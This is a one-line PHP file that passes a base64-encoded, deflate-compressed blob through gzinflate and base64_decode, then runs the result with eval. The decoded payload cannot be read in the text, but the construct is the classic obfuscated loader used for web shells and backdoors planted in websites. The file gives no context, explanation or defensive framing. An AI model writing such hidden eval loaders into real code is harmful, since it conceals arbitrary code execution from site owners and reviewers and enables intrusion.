<?php eval(gzinflate(base64_decode('S03OyFcoyCiIL81LzE3V0LRWSMsvSk1MzlDQKE5OzEvJLNJQ11PXVEgsVlBJ01SoVkgFacgoyc0pLkhNzkzMSc5ILCrWAMrpKCjZJBXZKVkr1HKljpo6hEwFAA=='))); ?>
